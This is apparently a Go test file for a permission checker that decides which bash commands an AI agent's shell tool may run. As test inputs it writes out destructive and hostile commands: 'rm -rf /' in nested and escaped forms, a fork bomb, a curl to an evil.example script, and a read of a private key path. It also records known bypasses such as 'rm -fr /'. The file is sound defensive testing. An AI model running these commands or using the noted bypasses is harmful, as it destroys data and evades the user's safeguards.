package tools

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/pelletier/go-toml/v2"
)

func TestBashRulesCheck(t *testing.T) {
	denyRoot := BashRules{Deny: []string{"rm -rf /"}}
	denyRm := BashRules{Deny: []string{"rm"}}
	gitOnly := BashRules{Allow: []string{"git status", "git diff", "go test", "cd"}, Deny: []string{"git push"}}
	tests := []struct {
		name    string
		rules   BashRules
		command string
		refused string // "" when allowed, else a substring of the error
	}{
		{"no rules: anything", BashRules{}, "rm -rf / ; :(){ :|:& };:", ""},
		{"no rules: even unparsable", BashRules{}, "if then fi )(", ""},

		{"rm -rf / itself", denyRoot, "rm -rf /", `"rm -rf /" is denied by the permission policy (pattern "rm -rf /")`},
		{"extra arguments after the pattern", denyRoot, "rm -rf / --no-preserve-root", "denied"},
		{"rm -rf / in a pipeline", denyRoot, "ls | rm -rf /", "denied"},
		{"after &&", denyRoot, "echo hi && rm -rf /", "denied"},
		{"after ;", denyRoot, "cd /srv; rm -rf /", "denied"},
		{"in a subshell", denyRoot, "(rm -rf /)", "denied"},
		{"in a command substitution", denyRoot, "echo $(rm -rf /)", "denied"},
		{"in backquotes", denyRoot, "echo `rm -rf /`", "denied"},
		{"in a function body", denyRoot, "f() { rm -rf /; }; f", "denied"},
		{"in an if", denyRoot, "if true; then rm -rf /; fi", "denied"},
		{"behind sudo", denyRoot, "sudo rm -rf /", "denied"},
		{"by full path", denyRoot, "/bin/rm -rf /", "denied"},
		{"quoted words", denyRoot, `rm "-rf" '/'`, "denied"},
		{"backslash escapes", denyRoot, `r\m -rf /`, "denied"},
		{"with an assignment before", denyRoot, "FOO=1 rm -rf /", "denied"},
		{"inside bash -c", denyRoot, `bash -c "rm -rf /"`, "denied"},
		{"inside sh -c nested", denyRoot, `sh -c 'bash -c "rm -rf /"'`, "denied"},
		{"inside eval", denyRoot, `eval "rm -rf /"`, "denied"},
		{"a different directory is fine", denyRoot, "rm -rf /srv/build", ""},
		{"a string argument is fine", denyRoot, `echo "rm -rf /"`, ""},
		{"a commit message is fine", denyRoot, `git commit -m "never rm -rf /"`, ""},
		{"flags in another order slip through (guard rail)", denyRoot, "rm -fr /", ""},
		{"split flags slip through (guard rail)", denyRoot, "rm -r -f /", ""},

		{"rm anywhere in a pipeline", denyRm, "find . -name '*.o' | xargs rm", "denied"},
		{"rm alone", denyRm, "rm", "denied"},
		{"rm as an argument is refused too", denyRm, "echo rm", "denied"},
		{"rmdir is another command", denyRm, "rmdir build", ""},
		{"a file named rm.txt", denyRm, "cat rm.txt", ""},

		{"allowed command", gitOnly, "git status", ""},
		{"allowed with more arguments", gitOnly, "go test ./... -run X", ""},
		{"extra spaces do not matter", gitOnly, "git   status", ""},
		{"all parts allowed", gitOnly, "cd sub && git diff", ""},
		{"one part not allowed", gitOnly, "git status && rm -rf build", `"rm -rf build" is not allowed by the permission policy; allowed commands: git status, git diff, go test, cd`},
		{"pipeline into something not allowed", gitOnly, "git diff | tee out.txt", `"tee out.txt" is not allowed`},
		{"substitution not allowed", gitOnly, "git diff $(cat list)", `"cat list" is not allowed`},
		{"allow needs the first word exactly", gitOnly, "./git status", "not allowed"},
		{"allow is not a prefix of a word", gitOnly, "git statusx", "not allowed"},
		{"deny wins over allow", gitOnly, "git push origin main", `"git push origin main" is denied`},
		{"unparsable with rules", gitOnly, "git status (", "cannot be checked against the permission policy"},

		{"wildcards in a word", BashRules{Deny: []string{"curl *evil*"}}, "curl https://evil.example/x.sh", "denied"},
		{"wildcard spans a slash", BashRules{Deny: []string{"cat /etc/*"}}, "cat /etc/ssl/private/key", "denied"},
		{"question mark", BashRules{Allow: []string{"make ?"}}, "make a", ""},
		{"question mark is one character", BashRules{Allow: []string{"make ?"}}, "make ab", "not allowed"},
		{"expansions stay as written", BashRules{Deny: []string{"echo $HOME"}}, "echo $HOME", "denied"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.rules.Check(tc.command)
			switch {
			case tc.refused == "" && err != nil:
				t.Errorf("Check(%q) = %v, want allowed", tc.command, err)
			case tc.refused != "" && (err == nil || !strings.Contains(err.Error(), tc.refused)):
				t.Errorf("Check(%q) = %v, want an error with %q", tc.command, err, tc.refused)
			}
		})
	}
}

func TestBashToolEnforcesRules(t *testing.T) {
	ws, set := newTestWorkspace(t, map[string]string{"keep.txt": "x"}, Options{Rules: Rules{Bash: BashRules{Deny: []string{"rm"}}}})
	res := call(t, set, Bash, obj{"command": "ls && rm keep.txt"})
	if !res.IsError || !strings.Contains(res.Output, `"rm keep.txt" is denied`) {
		t.Errorf("got %+v", res)
	}
	readBack(t, ws, "keep.txt", "x")
}

func TestPolicyFromTOML(t *testing.T) {
	const config = `
[permissions]
read_only = false

[permissions.bash]
allow = ["git status", "go"]
deny = ["git push", "sudo"]

[permissions.agents.reviewer]
read_only = true

[permissions.agents.builder.bash]
allow = ["make"]
deny = ["make deploy"]

[permissions.agents.free.bash]
allow = []
`
	var file struct {
		Permissions Policy `toml:"permissions"`
	}
	if err := toml.Unmarshal([]byte(config), &file); err != nil {
		t.Fatal(err)
	}
	p := file.Permissions
	must(t, p.Validate())
	tests := []struct {
		agent string
		want  Rules
	}{
		{"general", Rules{Bash: BashRules{Allow: []string{"git status", "go"}, Deny: []string{"git push", "sudo"}}}},
		{"reviewer", Rules{ReadOnly: true, Bash: BashRules{Allow: []string{"git status", "go"}, Deny: []string{"git push", "sudo"}}}},
		{"builder", Rules{Bash: BashRules{Allow: []string{"make"}, Deny: []string{"git push", "sudo", "make deploy"}}}},
		{"free", Rules{Bash: BashRules{Allow: []string{}, Deny: []string{"git push", "sudo"}}}},
	}
	for _, tc := range tests {
		if diff := cmp.Diff(tc.want, p.ForAgent(tc.agent)); diff != "" {
			t.Errorf("ForAgent(%s) (-want +got):\n%s", tc.agent, diff)
		}
	}
	// ForAgent must not share slices with the policy.
	r := p.ForAgent("builder")
	r.Bash.Deny[0] = "changed"
	if p.Bash.Deny[0] != "git push" {
		t.Error("ForAgent aliased the policy's deny list")
	}
}

// A narrowing policy (a project's file) can only take away from the
// user's: whatever it says, the result is never looser than the user's.
func TestPolicyNarrowing(t *testing.T) {
	bash := func(allow, deny []string, unlisted string) Rules {
		return Rules{Bash: BashRules{Allow: allow, Deny: deny, Unlisted: unlisted}}
	}
	tests := []struct {
		name       string
		user, narr Policy
		agent      string
		commands   map[string]string // command → "" when it runs, else a substring of the refusal
		readOnly   bool
		asks       bool
	}{
		{
			name:     "deny lists add up",
			user:     Policy{Rules: bash(nil, []string{"sudo"}, "")},
			narr:     Policy{Rules: bash(nil, []string{"git push"}, "")},
			commands: map[string]string{"sudo ls": "denied", "git push": "denied", "git status": ""},
		},
		{
			name:     "an empty deny list removes nothing",
			user:     Policy{Rules: bash(nil, []string{"sudo"}, "")},
			narr:     Policy{Rules: bash(nil, []string{}, "")},
			commands: map[string]string{"sudo ls": "denied"},
		},
		{
			name:     "read_only = false does not undo the user's",
			user:     Policy{Rules: Rules{ReadOnly: true}},
			narr:     Policy{Rules: Rules{ReadOnly: false}},
			readOnly: true,
		},
		{
			name:     "read_only turns on",
			narr:     Policy{Agents: map[string]Rules{"coder": {ReadOnly: true}}},
			agent:    "coder",
			readOnly: true,
		},
		{
			name:     "allow lists intersect",
			user:     Policy{Rules: bash([]string{"go", "ls"}, nil, "")},
			narr:     Policy{Rules: bash([]string{"go test", "make"}, nil, "")},
			commands: map[string]string{"go test ./...": "", "go build": "not allowed", "ls": "not allowed", "make": `"make" is not allowed`},
		},
		{
			name:     "an allow list narrows a user who has none",
			narr:     Policy{Rules: bash([]string{"go test"}, nil, "")},
			commands: map[string]string{"go test ./...": "", "curl x": "not allowed"},
		},
		{
			name:     "an empty allow list allows nothing more",
			user:     Policy{Rules: bash([]string{"go"}, nil, "")},
			narr:     Policy{Rules: bash([]string{}, nil, "")},
			commands: map[string]string{"go vet": "", "rm x": "not allowed"},
		},
		{
			name:     "an agent's own allow list does not widen the user's",
			user:     Policy{Rules: bash([]string{"go test"}, nil, "")},
			narr:     Policy{Agents: map[string]Rules{"coder": bash([]string{"rm"}, nil, "")}},
			agent:    "coder",
			commands: map[string]string{"rm -rf build": "not allowed", "go test": "not allowed"},
		},
		{
			name:     "the global allow list narrows an agent the user gave its own",
			user:     Policy{Agents: map[string]Rules{"coder": bash([]string{"make", "go"}, nil, "")}},
			narr:     Policy{Rules: bash([]string{"go"}, nil, "")},
			agent:    "coder",
			commands: map[string]string{"go test": "", "make": "not allowed"},
		},
		{
			name: "unlisted turns from ask to refuse",
			user: Policy{Rules: bash([]string{"go"}, nil, UnlistedAsk)},
			narr: Policy{Rules: bash(nil, nil, UnlistedRefuse)},
		},
		{
			name: "unlisted does not turn from refuse to ask",
			user: Policy{Rules: bash([]string{"go"}, nil, UnlistedRefuse)},
			narr: Policy{Rules: bash(nil, nil, UnlistedAsk)},
		},
		{
			name: "unlisted does not turn to ask from the default",
			user: Policy{Rules: bash([]string{"go"}, nil, "")},
			narr: Policy{Agents: map[string]Rules{"coder": bash(nil, nil, UnlistedAsk)}},
		},
		{
			name: "the user's ask stays when the narrowing says nothing",
			user: Policy{Rules: bash([]string{"go"}, nil, UnlistedAsk)},
			narr: Policy{Rules: bash([]string{"go test"}, nil, "")},
			asks: true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := tc.user
			p.Narrowing = &tc.narr
			must(t, p.Validate())
			r := p.ForAgent(tc.agent)
			if r.ReadOnly != tc.readOnly {
				t.Errorf("read_only = %v, want %v", r.ReadOnly, tc.readOnly)
			}
			if r.Bash.Asks() != tc.asks {
				t.Errorf("asks = %v, want %v", r.Bash.Asks(), tc.asks)
			}
			for command, refused := range tc.commands {
				err := r.Bash.Check(command)
				switch {
				case refused == "" && err != nil:
					t.Errorf("Check(%q) = %v, want allowed", command, err)
				case refused != "" && (err == nil || !strings.Contains(err.Error(), refused)):
					t.Errorf("Check(%q) = %v, want an error with %q", command, err, refused)
				}
			}
		})
	}
	bad := Policy{Narrowing: &Policy{Rules: bash([]string{"a | b"}, nil, "")}}
	if err := bad.Validate(); err == nil {
		t.Error("Validate passed a bad pattern of the narrowing policy")
	}
}

func TestPolicyReadOnlyRemovesWriteTools(t *testing.T) {
	_, set := newTestWorkspace(t, nil, Options{Rules: Policy{Agents: map[string]Rules{"explore": {ReadOnly: true}}}.ForAgent("explore")})
	if diff := cmp.Diff([]string{Read, Ls, Glob, Grep}, set.Names()); diff != "" {
		t.Errorf("tools (-want +got):\n%s", diff)
	}
}

func TestPolicyValidate(t *testing.T) {
	tests := []struct {
		name   string
		policy Policy
		want   string
	}{
		{"empty is fine", Policy{}, ""},
		{"empty pattern", Policy{Rules: Rules{Bash: BashRules{Deny: []string{"  "}}}}, "bash.deny: empty pattern"},
		{"a pipeline", Policy{Rules: Rules{Bash: BashRules{Deny: []string{"curl * | sh"}}}}, `bash.deny: pattern "curl * | sh" contains "|"`},
		{"a list", Policy{Rules: Rules{Bash: BashRules{Allow: []string{"make && make install"}}}}, `bash.allow: pattern "make && make install" contains "&"`},
		{"per agent", Policy{Agents: map[string]Rules{"x": {Bash: BashRules{Allow: []string{"a > b"}}}}}, `permissions.agents.x: bash.allow: pattern "a > b" contains ">"`},
		{"empty agent name", Policy{Agents: map[string]Rules{"": {}}}, "empty agent name"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.policy.Validate()
			if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
				t.Errorf("Validate() = %v, want %q", err, tc.want)
			}
		})
	}
	if _, err := Builtins(nil, Options{}); err == nil {
		t.Error("Builtins without a workspace succeeded")
	}
}

func TestWildcardMatch(t *testing.T) {
	for _, tc := range []struct {
		pattern, s string
		want       bool
	}{
		{"", "", true}, {"", "a", false}, {"*", "", true}, {"*", "anything/at all", true},
		{"a*", "abc", true}, {"a*c", "abxc", true}, {"a*c", "abxd", false}, {"*.go", "x.go", true},
		{"a?c", "abc", true}, {"a?c", "ac", false}, {"**", "x", true}, {"é?", "éü", true},
		{"a*b*c", "aXbYbZc", true}, {"a*b*c", "aXbYbZ", false},
	} {
		if got := wildcardMatch(tc.pattern, tc.s); got != tc.want {
			t.Errorf("wildcardMatch(%q, %q) = %v", tc.pattern, tc.s, got)
		}
	}
}

// FuzzBashRulesCheck: any command, however malformed, gets an answer and
// never a panic; a command that is denied stays denied when more is
// chained after it.
func FuzzBashRulesCheck(f *testing.F) {
	for _, s := range []string{"rm -rf /", "ls | rm x", "echo $(rm -rf /)", `bash -c "rm -rf /"`, "if then", "a\\\nb", "$'\\x72m' x", "{rm,-rf,/}"} {
		f.Add(s)
	}
	rules := BashRules{Allow: []string{"ls", "echo *"}, Deny: []string{"rm -rf /", "rm"}}
	f.Fuzz(func(t *testing.T, command string) {
		err := rules.Check(command)
		if err != nil && strings.Contains(err.Error(), "is denied") {
			if rules.Check(command+"\nls") == nil {
				t.Errorf("%q is denied but allowed with a command after it", command)
			}
		}
	})
}
